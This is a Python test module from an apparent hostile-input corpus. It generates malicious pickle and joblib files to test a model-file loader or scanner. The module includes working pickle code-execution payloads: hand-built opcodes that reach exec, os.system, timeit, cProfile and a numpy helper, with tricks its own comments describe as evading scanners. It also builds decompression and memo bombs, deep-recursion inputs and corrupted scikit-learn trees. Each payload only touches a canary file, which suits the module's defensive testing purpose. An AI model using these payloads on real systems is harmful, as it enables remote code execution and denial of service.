"""The file itself: opcodes, compressions, arrays, names, trusted classes in impossible states."""

import bz2
import functools
import gzip
import io
import lzma
import operator
import pickle
import struct
import zlib
from typing import Any

import joblib
import numpy as np
from sklearn.linear_model import LinearRegression
from sklearn.tree import DecisionTreeRegressor

from tests.hostile.canaries import Canaries
from tests.hostile.corpus.registry import (
    ATTACKS,
    PROVED,
    Attack,
    Call,
    attack,
    code,
    dumped,
    fitted,
)


@attack
def allocates(c: Canaries) -> bytes:
    return pickle.dumps(Call(bytearray, 10**11))


@attack
def crashes_in_scikit_learn(c: Canaries) -> bytes:
    """Made of scikit-learn's classes only: a tree whose child lies far outside."""
    tree = DecisionTreeRegressor(max_depth=2).fit(np.arange(20.0).reshape(10, 2), np.arange(10.0))
    state = tree.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = 2_000_000_000
    state["nodes"] = nodes
    tree.tree_.__setstate__(state)
    return dumped(tree)


@attack
def turns_in_circles_in_scikit_learn(c: Canaries) -> bytes:
    tree = DecisionTreeRegressor(max_depth=2).fit(np.arange(20.0).reshape(10, 2), np.arange(10.0))
    state = tree.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = 0
    state["nodes"] = nodes
    tree.tree_.__setstate__(state)
    return dumped(tree)


@attack
def payload_after_the_first_array(c: Canaries) -> bytes:
    """Scanners of pickles stop at joblib's first array."""
    return dumped([np.arange(1000.0), Call(exec, f"open('{c.watched}/owned', 'w')")])


@attack
def compressed_payload(c: Canaries) -> bytes:
    return zlib.compress(code(f"open('{c.watched}/owned', 'w')"))


@attack
def memo_bomb(c: Canaries) -> bytes:
    """Nine bytes that make the unpickler's memo 4 GB long."""
    return b"\x80\x04]r\xff\xff\xff\x1f0."


@attack
def long_bytes(c: Canaries) -> bytes:
    return b"\x80\x05\x96" + struct.pack("<Q", 64 << 30) + b"."


@attack
def tuple_doubling(c: Canaries) -> bytes:
    return b"\x80\x04)" + b"2\x86" * 60 + b"."


@attack
def deep_recursion(c: Canaries) -> bytes:
    return b"\x80\x04" + b"]" * 200_000 + b"a" * 199_999 + b"."


@attack
def zlib_bomb(c: Canaries) -> bytes:
    return zlib.compress(bytes(64 << 20), 9)


@attack
def gzip_bomb(c: Canaries) -> bytes:
    return gzip.compress(bytes(64 << 20), 9)


@attack
def bz2_bomb(c: Canaries) -> bytes:
    return bz2.compress(bytes(64 << 20), 9)


@attack
def xz_bomb(c: Canaries) -> bytes:
    return lzma.compress(bytes(64 << 20), preset=0)


@attack
def huge_array_header(c: Canaries) -> bytes:
    array = dumped(np.arange(4.0))
    return array.replace(b"\x8c\x05shape\x94K\x04\x85", b"\x8c\x05shape\x94J\xff\xff\xff\x7f\x85")


@attack
def empty(c: Canaries) -> bytes:
    return b""


@attack
def random_bytes(c: Canaries) -> bytes:
    return np.random.default_rng(0).bytes(4096)


@attack
def a_zip(c: Canaries) -> bytes:
    file = io.BytesIO()
    np.savez(file, a=np.zeros(3))
    return file.getvalue()


@attack
def truncated(c: Canaries) -> bytes:
    whole = dumped(LinearRegression().fit(np.ones((50, 400)), np.arange(50.0)))
    return whole[: len(whole) // 2]


@attack
def truncated_compressed(c: Canaries) -> bytes:
    whole = zlib.compress(dumped(fitted()))
    return whole[:-20]


@attack
def foreign_version(c: Canaries) -> bytes:
    import sklearn

    version = sklearn.__version__.encode()
    return pickle.dumps(fitted()).replace(version, b"0." + version[2:])


@attack
def missing_class(c: Canaries) -> bytes:
    return b"\x80\x04\x8c\x0bnowhere.lib\x8c\x05Model\x93)\x81."


@attack
def not_an_estimator(c: Canaries) -> bytes:
    return pickle.dumps({"model": fitted(), "columns": ["a"]})


@attack
def not_fitted(c: Canaries) -> bytes:
    return pickle.dumps(LinearRegression())


@attack
def a_class(c: Canaries) -> bytes:
    return pickle.dumps(LinearRegression)


@attack
def forged_name(c: Canaries) -> bytes:
    return pickle.dumps(fitted()).replace(b"LinearRegression", b"LinearRegressiom")


def _payload(c: Canaries) -> Call:
    return Call(exec, f"open('{c.watched}/owned', 'w').close()")


def _of_protocol(number: int) -> Attack:
    return lambda c: pickle.dumps(_payload(c), number)


def _compressed_by(method: str) -> Attack:
    def write(c: Canaries) -> bytes:
        file = io.BytesIO()
        joblib.dump([np.arange(10.0), _payload(c)], file, compress=(method, 3))
        return file.getvalue()

    return write


for _number in range(pickle.HIGHEST_PROTOCOL + 1):
    ATTACKS[f"payload_of_protocol_{_number}"] = _of_protocol(_number)
    PROVED.add(f"payload_of_protocol_{_number}")
for _method in ("zlib", "gzip", "bz2", "xz", "lzma"):
    ATTACKS[f"payload_in_{_method}"] = _compressed_by(_method)
    PROVED.add(f"payload_in_{_method}")


def _opcodes(template: str) -> Attack:
    """Opcodes of protocol 0 and 1 by hand, which take a line of Python."""
    return lambda c: template.format(f"open('{c.watched}/owned','w').close()").encode()


# One way each to a call, and functions that scanners do not know.
_BY_HAND = {
    "calls_by_instance": '(S"{0}"\nibuiltins\nexec\n.',
    "calls_by_object": '(cbuiltins\nexec\nS"{0}"\no.',
    "calls_by_reduce": 'cbuiltins\nexec\n(S"{0}"\ntR.',
    "calls_by_an_old_name": 'c__builtin__\nexec\n(S"{0}"\ntR.',
    "calls_timeit": 'ctimeit\ntimeit\n(S"{0}"\ntR.',
    "calls_a_profiler": 'ccProfile\nrun\n(S"{0}"\ntR.',
    "calls_numpy": 'cnumpy.testing._private.utils\nrunstring\n(S"{0}"\n(dtR.',
}
for _name, _template in _BY_HAND.items():
    ATTACKS[_name] = _opcodes(_template)


@attack
def calls_by_a_dotted_name(c: Canaries) -> bytes:
    """STACK_GLOBAL takes attributes of attributes."""
    command = f"touch {c.watched}/owned".encode()
    called = b"\x80\x04\x8c\x06shutil\x8c\x09os.system\x93"
    return called + b"\x8c" + bytes([len(command)]) + command + b"\x85R."


@attack
def a_pickle_in_a_pickle(c: Canaries) -> bytes:
    return pickle.dumps(Call(pickle.loads, pickle.dumps(_payload(c))))


@attack
def a_state_that_is_called(c: Canaries) -> bytes:
    """A partial takes what it calls from its state; nothing dangerous is an argument."""
    return pickle.dumps([Call(operator.call, _partial(c))])


def _partial(c: Canaries) -> Any:
    return functools.partial(exec, f"open('{c.watched}/owned', 'w').close()")


PROVED |= {*_BY_HAND, "calls_by_a_dotted_name", "a_pickle_in_a_pickle", "a_state_that_is_called"}
PROVED |= {"payload_after_the_first_array", "compressed_payload"}
